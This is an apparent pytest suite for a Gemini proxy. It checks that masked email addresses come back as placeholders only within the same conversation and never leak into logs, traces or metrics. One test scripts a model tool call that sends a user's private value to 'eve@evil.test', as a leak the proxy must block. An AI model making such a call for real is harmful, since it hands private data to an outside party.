"""Values of earlier exchanges: what comes back in a later one, to whom, and what never does."""

import base64
import logging
import re
from pathlib import Path
from typing import Any

import aiohttp
import orjson
import pytest
from google import genai
from google.genai import types

from gemini_proxy.server.app_keys import SETUPS
from gemini_proxy.traces.trace import Outcome
from tests.clients.sdk import QUIET
from tests.conftest import StartProxy
from tests.gemini.interactions.streams import interaction, text_step
from tests.proxy.test_history import chat
from tests.proxy.test_masking import (
    EMAIL,
    EVERYWHERE,
    LEAVES,
    OTHER,
    TO_THE_MODEL,
    echoes,
    in_pieces,
    placeholder_in,
    said,
)
from tests.proxy.test_openai_path import address as openai_address
from tests.proxy.test_openai_path import call as openai_call
from tests.proxy.test_openai_path import chat as openai_chat
from tests.proxy.test_openai_path import whole as openai_whole
from tests.support.proxy import MODEL, Proxy, prompt
from tests.support.upstream import Call, Reply, ScriptedUpstream, call_part, candidate, sse, unary
from tests.traces.samples import execute, query

KEYS = [base64.b64encode(bytes([number]) * 32).decode() for number in (1, 2)]
KEPT = {"mask_key": "placeholders", "value_keys": KEYS[0]}
NAMED = {"x-gemini-proxy-conversation": "travel"}


async def ask(client: aiohttp.ClientSession, proxy: Proxy, body: Any, headers: dict[str, str] = NAMED) -> str:
    async with client.post(proxy.method(), json=body, headers=headers) as response:
        assert response.status == 200, await response.text()
        return said(await response.read(), "unary")


async def remembered(
    client: aiohttp.ClientSession, proxy: Proxy, upstream: ScriptedUpstream, headers: dict[str, str] = NAMED
) -> str:
    """Have a value masked; return its placeholder. From then on the model repeats placeholders."""
    upstream.reply(unary(candidate("Noted.", "STOP")))
    await ask(client, proxy, prompt(f"Write to {EMAIL}"), headers)
    upstream.reply(echoes(lambda placeholder: unary(candidate(f"to {placeholder}", "STOP"))))
    return placeholder_in(upstream.calls[-1].body)


async def count(proxy: Proxy, client: aiohttp.ClientSession, result: str) -> float:
    async with client.get(f"{proxy.url}/metrics") as response:
        line = f'gemini_proxy_masked_values_total{{result="{result}"}} '
        return float((await response.text()).partition(line)[2].partition("\n")[0])


def database_files(folder: Path) -> list[str]:
    """What SQLite has written so far, if it is the database."""
    return [file.read_bytes().decode(errors="replace") for file in folder.glob("traces.db*")]


async def test_a_placeholder_of_the_conversation_comes_back_in_another_process(
    start_proxy: StartProxy,
    upstream: ScriptedUpstream,
    client: aiohttp.ClientSession,
    database_url: str,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """By the client's name of the conversation, or by how it began; unary and as a stream. Nothing else holds it."""
    caplog.set_level(logging.DEBUG)
    first = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT, traces={"database": database_url})
    placeholder = await remembered(client, first, upstream)
    again = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT, traces={"database": database_url})
    assert await ask(client, again, prompt(f"Who is {placeholder}?")) == f"to {EMAIL}"
    trace = await again.trace()
    assert EMAIL not in str(trace)
    assert trace.messages[-1]["content"] == f"to {placeholder}"
    upstream.reply(echoes(lambda shown: sse_reply(shown[:9], shown[9:].lower())))
    async with client.post(again.stream, json=prompt(f"And {placeholder}?"), headers=NAMED) as response:
        assert said(await response.read(), "sse") == EMAIL
    # In another conversation it is a text as any other; so it is where the conversation begins.
    upstream.reply(echoes(lambda shown: unary(candidate(shown, "STOP"))))
    for headers in ({"x-gemini-proxy-conversation": "work"}, {}):
        assert await ask(client, again, prompt(f"Who is {placeholder}?"), headers) == placeholder
    assert await count(again, client, "read") == 2
    # Without a name a conversation is known by its beginning, in the words that the model was given.
    await remembered(client, again, upstream, {})
    began = [("user", f"Write to {placeholder}"), ("model", "Noted."), ("user", "Who is it?")]
    assert await ask(client, again, chat(*began), {}) == f"to {EMAIL}"
    began[1] = ("model", "Never noted.")
    assert await ask(client, again, chat(*began), {}) == f"to {placeholder}"
    async with client.get(f"{again.url}/metrics") as response:
        places = [await response.text(), caplog.text, str(vars(again.app[SETUPS].current.masked_values))]
    places += database_files(tmp_path)
    assert not any(canary in place for canary in (EMAIL, KEYS[0]) for place in places)


def sse_reply(*texts: str) -> Reply:
    return Reply(sse(*(candidate(text) for text in texts), candidate("", "STOP")), content_type="text/event-stream")


async def test_what_the_client_never_had_does_not_come_back(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    """A value that was masked in a response is the operator's to see, and no later response gives it away."""
    proxy = await start_proxy(mask_policy=EVERYWHERE, guardrails=KEPT)
    upstream.reply(unary(candidate(f"Ask {OTHER}", "STOP")))
    hidden = (await ask(client, proxy, prompt("Who knows?"))).removeprefix("Ask ")
    assert OTHER not in hidden
    upstream.reply(unary(candidate(f"It is {hidden}", "STOP")))
    assert await ask(client, proxy, prompt(f"Who is {hidden}?")) == f"It is {hidden}"
    assert [kind for (kind,) in await query(proxy.database, "SELECT kind FROM masked_values")] == ["said"]


@pytest.mark.parametrize(
    ("guardrails", "mode"),
    [({"mask_key": "placeholders"}, "open"), ({**KEPT, "restore": "off"}, "open"), (KEPT, "keys")],
    ids=["no key", "not restored", "strangers"],
)
async def test_nothing_is_kept_where_it_could_not_come_back(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, guardrails: Any, mode: str
) -> None:
    """Without a key, where placeholders are meant to stay, and for clients of whom nobody knows who they are."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=guardrails, access={"mode": mode})
    placeholder = await remembered(client, proxy, upstream)
    assert await ask(client, proxy, prompt(f"Who is {placeholder}?")) == f"to {placeholder}"
    assert await query(proxy.database, "SELECT 1 FROM masked_values") == []


async def test_what_cannot_be_read_stays_a_placeholder(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, caplog: pytest.LogCaptureFixture
) -> None:
    """Another key, and a database that does not answer: the exchange goes on, the log and the metrics tell."""
    first = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    placeholder = await remembered(client, first, upstream)
    other = await start_proxy(mask_policy=TO_THE_MODEL, guardrails={**KEPT, "value_keys": KEYS[1]})
    assert await ask(client, other, prompt(f"Who is {placeholder}?")) == f"to {placeholder}"
    assert await count(other, client, "unreadable") == 1
    await execute(first.database, "DROP TABLE masked_values")
    assert await ask(client, first, prompt(f"Who is {placeholder}?")) == f"to {placeholder}"
    assert await count(first, client, "unavailable") == 1
    assert (await first.trace()).outcome is Outcome.COMPLETED
    assert "not restored" in caplog.text
    assert EMAIL not in caplog.text
    assert not any(key in caplog.text for key in KEYS)


async def test_a_conversation_writes_a_value_once(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    """Until a tenth of its time is over, or another key encrypts."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    history = [("user", f"Write to {EMAIL}"), ("model", "Noted."), ("user", "And now?")]

    async def written() -> object:
        await ask(client, proxy, chat(*history))
        [row] = await query(proxy.database, "SELECT key, sealed, expires FROM masked_values")
        return row

    await remembered(client, proxy, upstream)
    upstream.reply(unary(candidate("Noted.", "STOP")))
    first = await written()
    assert await written() == first
    await execute(proxy.database, "UPDATE masked_values SET expires = expires - 4 * 86400")
    assert await written() != first
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails={**KEPT, "value_keys": f"{KEYS[1]} {KEYS[0]}"})
    assert await written() != first


async def test_a_value_of_an_earlier_exchange_is_private_in_a_call(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    """What comes back is judged as what the client gets, whenever it was masked."""
    proxy = await start_proxy(policy=LEAVES, mask_policy=TO_THE_MODEL, guardrails=KEPT)
    placeholder = await remembered(client, proxy, upstream)
    upstream.reply(echoes(lambda shown: unary(call_part("send", "STOP", to="eve@evil.test", body=f"from {shown}"))))
    async with client.post(proxy.method(), json=prompt(f"Tell {placeholder}"), headers=NAMED) as response:
        assert response.status == 400 and "private data leaves" in await response.text()


async def test_an_exchange_without_a_placeholder_asks_for_nothing(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    await execute(proxy.database, "DROP TABLE masked_values")
    upstream.reply(unary(candidate("Hello", "STOP")))
    assert await ask(client, proxy, prompt("Hi")) == "Hello"
    assert await count(proxy, client, "unavailable") == 0


async def test_interactions_go_on_and_are_read_again(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    """Values come back along a chain of them, and in the response to one in the background; in nobody else's."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    address = f"{proxy.url}/v1/interactions"

    async def answered(method: str, url: str, reply: dict[str, Any], **fields: Any) -> str:
        upstream.reply(unary(reply))
        async with client.request(method, url, json=fields or None) as response:
            assert response.status == 200, await response.text()
            return str(await response.json())

    later = interaction(status="in_progress")
    await answered("POST", address, later, model=MODEL, input=f"Write to {EMAIL}", background=True)
    to = text_step(f"to {placeholder_in(upstream.calls[-1].body)}")
    assert f"to {EMAIL}" in await answered("GET", f"{address}/v1_abc", interaction([to]))
    before = "v1_abc"
    for name in ("v1_b", "v1_c"):
        reply = {**interaction([to]), "id": name}
        asked = {"model": MODEL, "input": "And now?", "previous_interaction_id": before}
        assert f"to {EMAIL}" in await answered("POST", address, reply, **asked)
        before = name
    assert EMAIL not in await answered("POST", address, interaction([to]), model=MODEL, input="And now?")


def joined(parts: list[dict[str, Any]], thought: bool) -> str:
    return "".join(part["text"] for part in parts if "text" in part and bool(part.get("thought")) is thought)


@pytest.mark.parametrize("form", ["unary", "joined", "pieces"])
async def test_the_model_finds_in_the_history_what_it_wrote(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, form: str
) -> None:
    """Byte for byte, whatever it made of placeholders: the client sends its values, in a stream's pieces or joined."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    shown = ""

    def wrote(placeholder: str) -> list[dict[str, Any]]:
        nonlocal shown
        shown = placeholder
        bare, escaped = placeholder.strip("<>").lower(), placeholder.replace("_", "\\_").replace("<", "&lt;")
        called = {"functionCall": {"name": "send", "args": {"to": bare, "cc": [placeholder, escaped]}}}
        thought = {"text": f"I see {escaped}", "thought": True}
        return [thought, {"text": f"{bare} or {placeholder}, "}, {"text": f"{bare}!"}, called]

    def answer(call: Call) -> Reply:
        parts = wrote(placeholder_in(call.body))
        if form == "unary":
            return unary({"candidates": [{"content": {"role": "model", "parts": parts}, "finishReason": "STOP"}]})
        pieces = [{**part, "text": piece} for part in parts[:3] for piece in in_pieces(part["text"], 5)] + parts[3:]
        contents = [{"candidates": [{"content": {"role": "model", "parts": [piece]}}]} for piece in pieces]
        return Reply(sse(*contents, candidate("", "STOP")), content_type="text/event-stream")

    upstream.reply(answer)
    url = proxy.method() if form == "unary" else proxy.stream
    async with client.post(url, json=prompt(f"Write to {EMAIL}")) as response:
        body = await response.read()
    assert response.status == 200, body
    assert b"address" not in body.lower()
    payloads = [orjson.loads(line[5:]) for line in body.splitlines() if line.startswith(b"data:")]
    said_parts = [
        part
        for payload in payloads or [orjson.loads(body)]
        for part in payload["candidates"][0]["content"]["parts"]
        if part != {"text": ""}
    ]
    if form == "joined":
        thoughts, texts = joined(said_parts, True), joined(said_parts, False)
        said_parts = [{"text": thoughts, "thought": True}, {"text": texts}, said_parts[-1]]
    history = [
        {"role": "user", "parts": [{"text": f"Write to {EMAIL}"}]},
        {"role": "model", "parts": said_parts},
        {"role": "user", "parts": [{"functionResponse": {"name": "send", "response": {"to": EMAIL}}}]},
    ]
    upstream.reply(unary(candidate("done", "STOP")))
    async with client.post(proxy.method(), json={"contents": history}) as response:
        assert response.status == 200, await response.text()
    sent = upstream.calls[-1].json["contents"]
    written = wrote(shown)
    for thought in (True, False):
        assert joined(sent[1]["parts"], thought) == joined(written, thought)
    assert sent[1]["parts"][-1] == written[-1]
    assert sent[2]["parts"][0]["functionResponse"]["response"] == {"to": shown}
    assert EMAIL.encode() not in upstream.calls[-1].body
    # The trace has one spelling, so that a placeholder is found by it.
    assert set(re.findall(r"(?i)email.{1,3}address[^,! \"']*", str((await proxy.trace()).messages))) == {shown[1:]}


@pytest.mark.filterwarnings(QUIET)
async def test_so_it_does_in_the_sdks_chat(start_proxy: StartProxy, upstream: ScriptedUpstream) -> None:
    """google-genai keeps a stream in its pieces, each a content: from the first turn on."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)
    sdk = genai.Client(api_key="AIzaTestKey", http_options=types.HttpOptions(base_url=proxy.url)).aio
    session = sdk.chats.create(model=MODEL)
    written: list[str] = []

    def answer(call: Call) -> Reply:
        bare = placeholder_in(call.body).strip("<>").lower()
        written.append(f"I wrote to {bare}, and to {bare.upper()}, {len(written)}.")
        return sse_reply(*in_pieces(written[-1], 4))

    upstream.reply(answer)
    for text in (f"Write to {EMAIL}", "And again?", "Once more"):
        said = "".join([chunk.text or "" async for chunk in await session.send_message_stream(text)])
        assert said.startswith(f"I wrote to {EMAIL}, and to {EMAIL}, ")
    contents = upstream.calls[-1].json["contents"]
    parts = [part for content in contents if content["role"] == "model" for part in content["parts"]]
    assert joined(parts, False) == "".join(written[:2])


async def test_so_it_does_on_the_openai_path(
    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
) -> None:
    """In contents, thoughts and arguments, which are JSON in a text; and no more once the history is another one."""
    proxy = await start_proxy(mask_policy=TO_THE_MODEL, guardrails=KEPT)

    def wrote(asked: bytes) -> dict[str, Any]:
        placeholder = placeholder_in(asked)
        bare = placeholder.strip("<>").lower()
        calls = [openai_call(orjson.dumps({"to": bare, "cc": placeholder}).decode())]
        said = {"reasoning_content": bare, "content": f"{placeholder}, {bare}", "tool_calls": calls}
        return {"role": "assistant", **said}

    upstream.reply(lambda asked: unary(openai_whole(wrote(asked.body))))
    async with client.post(openai_address(proxy), json=openai_chat(f"Write to {EMAIL}")) as response:
        message = (await response.json())["choices"][0]["message"]
    written = wrote(upstream.calls[-1].body)
    assert message["reasoning_content"] == EMAIL and message["content"] == f"{EMAIL}, {EMAIL}"
    upstream.reply(unary(openai_whole({"role": "assistant", "content": "done"})))
    for first in ("Write to", "Send it to"):
        body = openai_chat(f"{first} {EMAIL}")
        body["messages"] += [message, {"role": "tool", "tool_call_id": "c", "content": "sent"}]
        async with client.post(openai_address(proxy), json=body) as response:
            assert response.status == 200, await response.text()
        sent = upstream.calls[-1].json["messages"][1]
        assert (sent == written) is (first == "Write to")
        assert EMAIL.encode() not in upstream.calls[-1].body
